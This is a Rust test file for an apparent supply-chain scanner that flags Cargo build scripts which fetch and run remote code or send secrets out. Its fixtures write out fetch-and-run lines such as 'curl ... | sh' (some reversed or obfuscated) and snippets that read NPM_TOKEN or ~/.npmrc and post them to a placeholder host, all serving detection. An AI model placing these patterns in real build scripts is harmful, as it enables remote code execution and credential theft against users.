//! Values that go through what the language has: closures, matches, patterns, loops, macros.

use super::{MANIFEST, built_with};
use crate::flow::testing::found;
use crate::unpack::text_file;
use customs_model::{SinkKind, SourceKind};

/// Whether a build script runs what it fetches, whose text `l` is made by some code.
fn run(made: &str) -> bool {
    run_by(&format!("fn main() {{ {made} sh(&l); }}"))
}

fn run_by(code: &str) -> bool {
    let script = format!(
        "fn sh(l: &str) {{ std::process::Command::new(\"sh\").arg(\"-c\").arg(l).status(); }}\n{code}"
    );
    built_with(&script, &[])
}

/// Whether a build script sends a secret.
fn sends(code: &str) -> bool {
    let script = format!(
        "fn post(t: &str) {{ ureq::post(\"https://a.invalid/\").send_string(t); }}\n{code}"
    );
    let flows = found(vec![
        text_file("a-1.0.0/Cargo.toml", MANIFEST),
        text_file("a-1.0.0/build.rs", &script),
    ])
    .flows;
    flows.iter().any(|flow| {
        matches!(
            flow.source,
            SourceKind::NamedSecret | SourceKind::Environment | SourceKind::CredentialFile
        ) && flow.sink == SinkKind::Network
    })
}

#[test]
fn a_list_that_is_collected_stays_one() {
    for made in [
        "let l = \"curl,-s,https://a.invalid/x,|,sh\".split(',').collect::<Vec<_>>().join(\" \");",
        "let v: Vec<&str> = \"curl,-s,https://a.invalid/x,|,sh\".split(',').collect();\n\
         let l = v.join(\" \");",
        "let l = \"a\\n#! curl -s https://a.invalid/x | sh\\nb\".lines()\n\
         .filter_map(|l| l.strip_prefix(\"#! \")).collect::<Vec<_>>().join(\"\\n\");",
    ] {
        assert!(run(made), "{made}");
    }
    // Letters that are collected are a text, and one edge changed: no line has the mark.
    assert!(run(
        "let l: String = \"hs | x/dilavni.a//:sptth s- lruc\".chars().rev().collect();"
    ));
    assert!(!run(
        "let l = \"a\\n## curl -s https://a.invalid/x | sh\\nb\".lines()\n\
         .filter_map(|l| l.strip_prefix(\"#! \")).collect::<Vec<_>>().join(\"\\n\");"
    ));
}

#[test]
fn what_is_replaced_in_a_text_is_replaced_everywhere() {
    let of = |text: &str| run(&format!("let l = \"{text}\".replace('#', \"\");"));
    assert!(of("cu#rl -s https://a.inv#alid/x | s#h"));
    assert!(!of("tru#e https://a.invalid/x"));
}

#[test]
fn an_arm_of_a_match_is_one_of_the_values() {
    let of = |line: &str| {
        run_by(&format!(
            "enum K {{ A, B }}\n\
             impl K {{ fn l(&self) -> &'static str {{ match self {{ K::A => \"{line}\", K::B => \"true\" }} }} }}\n\
             fn main() {{ sh(K::A.l()); }}"
        ))
    };
    assert!(of("curl -s https://a.invalid/x | sh"));
    assert!(!of("echo built"));
    let called = |other: &str| {
        run_by(&format!(
            "fn go() {{ sh(\"curl -s https://a.invalid/x | sh\"); }}\nfn no() {{}}\n\
             fn main() {{ let f = match std::env::var(\"X\").as_deref() {{ Ok(\"1\") => no, _ => {other} }}; f(); }}"
        ))
    };
    assert!(called("go"));
    assert!(!called("no"));
}

#[test]
fn a_field_that_a_pattern_names_is_that_field() {
    let of = |named: &str| {
        run_by(&format!(
            "struct S {{ p: &'static str, l: &'static str }}\n\
             fn main() {{ let S {{ p, l }} = S {{ p: \"true\", l: \"curl -s https://a.invalid/x | sh\" }}; sh({named}); }}"
        ))
    };
    assert!(of("l"));
    assert!(!of("p"));
}

#[test]
fn what_a_loop_is_left_with_is_its_value() {
    let of = |left: &str| {
        sends(&format!(
            "fn main() {{ let t = loop {{ if let Ok(t) = std::env::var(\"NPM_TOKEN\") {{ break {left}; }} }}; post(&t); }}"
        ))
    };
    assert!(of("t"));
    assert!(!of("\"a\""));
}

#[test]
fn what_is_made_when_it_is_first_asked_for_is_what_its_function_gives() {
    let lazy = |by: &str, line: &str| {
        run_by(&format!(
            "static L: {by}<String> = {by}::new(|| format!(\"{line} {{}} | sh\", \"https://a.invalid/x\"));\n\
             fn main() {{ sh(&L); }}"
        ))
    };
    assert!(lazy("std::sync::LazyLock", "curl -s"));
    assert!(lazy("once_cell::sync::Lazy", "curl -s"));
    assert!(!lazy("std::sync::LazyLock", "echo"));
    let cell = |line: &str| {
        run_by(&format!(
            "static L: std::sync::OnceLock<String> = std::sync::OnceLock::new();\n\
             fn main() {{ sh(L.get_or_init(|| \"{line}\".into())); }}"
        ))
    };
    assert!(cell("curl -s https://a.invalid/x | sh"));
    assert!(!cell("echo built"));
}

#[test]
fn values_that_a_macro_is_handed_with_names_are_held() {
    for body in [
        "serde_json::json!({\"t\": t})",
        "json!({\"a\": [1, null], \"b\": {\"t\": t}})",
        "hashmap! { \"t\" => t }",
    ] {
        let code = |secret: &str| {
            sends(&format!(
                "fn main() {{ let t = std::env::var(\"{secret}\").unwrap(); post(&{body}.to_string()); }}"
            ))
        };
        assert!(code("NPM_TOKEN"), "{body}");
        assert!(!code("OPT_LEVEL"), "{body}");
    }
}

#[test]
fn a_function_that_is_handed_over_by_its_name_gets_what_the_others_have() {
    for (given, by) in [
        (
            "",
            "[\"NAME\"].iter().map(std::env::var).next().unwrap().unwrap()",
        ),
        (
            "fn get(n: &str) -> Option<String> { std::env::var(n).ok() }\n",
            "[\"NAME\"].iter().filter_map(get).collect::<Vec<_>>().join(\",\")",
        ),
        ("", "Some(\"NAME\").map(std::env::var).unwrap().unwrap()"),
    ] {
        let code = |name: &str| {
            let by = by.replace("NAME", name);
            sends(&format!("{given}fn main() {{ let t = {by}; post(&t); }}"))
        };
        assert!(code("NPM_TOKEN"), "{by}");
        assert!(!code("OPT_LEVEL"), "{by}");
    }
}

#[test]
fn a_closure_gets_the_path_that_may_be_missing() {
    for path in [
        "dirs::home_dir().map(|h| h.join(\"FILE\")).unwrap()",
        "std::env::var(\"HOME\").map(|h| format!(\"{h}/FILE\")).unwrap()",
        "std::env::var_os(\"CARGO_HOME\").map(Into::into)\n\
         .or_else(|| home::home_dir().map(|h| h.join(\".cargo\"))).unwrap().join(\"../FILE\")",
    ] {
        let code = |file: &str| {
            let path = path.replace("FILE", file);
            sends(&format!(
                "fn main() {{ post(&std::fs::read_to_string({path}).unwrap()); }}"
            ))
        };
        assert!(code(".npmrc"), "{path}");
        assert!(!code("notes.txt"), "{path}");
    }
}

#[test]
fn a_variable_of_the_build_is_read_where_it_is_compiled_in() {
    assert!(sends("fn main() { post(env!(\"NPM_TOKEN\")); }"));
    assert!(!sends("fn main() { post(env!(\"CARGO_PKG_VERSION\")); }"));
}
